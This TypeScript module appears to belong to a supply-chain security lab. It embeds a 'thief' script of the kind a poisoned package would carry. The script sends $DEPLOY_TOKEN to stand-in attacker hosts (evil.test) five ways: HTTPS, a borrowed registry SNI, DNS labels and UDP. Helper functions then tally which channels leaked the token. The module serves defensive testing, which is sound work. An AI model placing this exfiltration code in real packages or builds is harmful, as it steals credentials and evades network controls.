/**
 * The poisoned package's script, and what became of its loot: each way in which it sends a token
 * away, and who received it. Pure.
 */
import { withCanary, type Record_ } from "./evidence.ts"
import { places, twins } from "./places.ts"

export interface Way {
  readonly key: "by-name" | "by-address" | "by-labels" | "by-udp" | "borrowed-name"
  /** As in "the attacker received it by name". */
  readonly title: string
  readonly target: string
}

const udpPort = 9999

/** The ways of the thief. */
export const ways: readonly Way[] = [
  { key: "by-name", title: "by name", target: "https://evil.test" },
  { key: "by-address", title: "by address", target: `https://${places.evil}` },
  { key: "by-labels", title: "in DNS labels", target: "<token>.evil.test" },
  { key: "by-udp", title: "by UDP", target: `${places.evil}:${udpPort}/udp` },
  {
    key: "borrowed-name",
    title: "under the registry's name",
    target: `https://${places.evil}`,
  },
]

/** Most bytes of a token: in hexadecimal it must fit into one DNS label (RFC 1035 §2.3.4). */
export const tokenBytesMax = 31

/** Steals $DEPLOY_TOKEN in all ways, one after the other, and says how each went. */
export const thief = `
const dgram = require("node:dgram")
const dns = require("node:dns")
const https = require("node:https")
const token = process.env.DEPLOY_TOKEN ?? "none"
const tell = (how, error) => console.log("colours: " + how + ": " + (error ? error.code ?? error.message : "sent"))
const post = (how, host, servername) => new Promise((done) => {
  const request = https.request({ host, servername, port: 443, method: "POST", path: "/" + how, rejectUnauthorized: false, timeout: 4000, headers: { host: servername || host } }, (reply) => { reply.resume(); tell(how); done() })
  request.on("timeout", () => request.destroy(new Error("timeout")))
  request.on("error", (error) => { tell(how, error); done() })
  request.end(how + " " + token)
})
const label = Buffer.from(token).toString("hex").slice(0, 62)
const ask = () => new Promise((done) => dns.lookup(label + ".evil.test", (error) => { tell("by-labels", error); done() }))
const shoot = () => new Promise((done) => {
  const socket = dgram.createSocket("udp4")
  const end = () => { clearTimeout(timer); socket.close(); done() }
  const timer = setTimeout(end, 500)
  socket.on("message", end)
  socket.on("error", () => {})
  socket.send("by-udp " + token, ${udpPort}, "${places.evil}", (error) => { tell("by-udp", error); if (error) end() })
})
;(async () => {
  await post("by-address", "${places.evil}", "")
  await post("by-name", "evil.test", "evil.test")
  await post("borrowed-name", "${places.evil}", "registry.example.com")
  await ask()
  await shoot()
})()
`

/** Who received what. */
export interface Loot {
  /** Ways by which the attacker received the token, in the order of `ways`. */
  readonly attacker: readonly Way[]
  /** Ways by which the registry received it. */
  readonly registry: readonly Way[]
  /** All that reached a server of the attacker, with a token or without. */
  readonly contacts: readonly Record_[]
}

/**
 * What the thief achieved.
 *
 * @param records all evidence of one build
 */
export function loot(records: readonly Record_[], token: string): Loot {
  const found = withCanary(records, token)
  const by = (mine: (record: Record_) => boolean): readonly Way[] => {
    const keys = new Set(found.filter(mine).map(keyOf))
    return ways.filter(({ key }) => keys.has(key))
  }
  return {
    attacker: by(isAttackers),
    registry: by(isRegistrys),
    contacts: records.filter(isAttackers),
  }
}

function keyOf({ kind, text }: Record_): Way["key"] | null {
  if (kind === "name") return "by-labels"
  if (kind === "datagram") return "by-udp"
  return ways.find(({ key }) => text.includes(`/${key} `))?.key ?? null
}

const isAt = (record: Record_, addresses: readonly string[]): boolean =>
  addresses.some((address) => record.at.replace("::ffff:", "").startsWith(`${address}:`))

const isRegistrys = (record: Record_): boolean => isAt(record, [places.registry, twins.registry])

/** In doubt it is the attacker's: of datagrams and of unserved ports the lab does not know the address. */
function isAttackers(record: Record_): boolean {
  switch (record.kind) {
    case "name":
    case "tls":
      return /(^|\.)evil\.test\.?$/i.test(record.text)
    case "http":
      return !isRegistrys(record)
    case "tcp":
    case "datagram":
      return true
  }
}
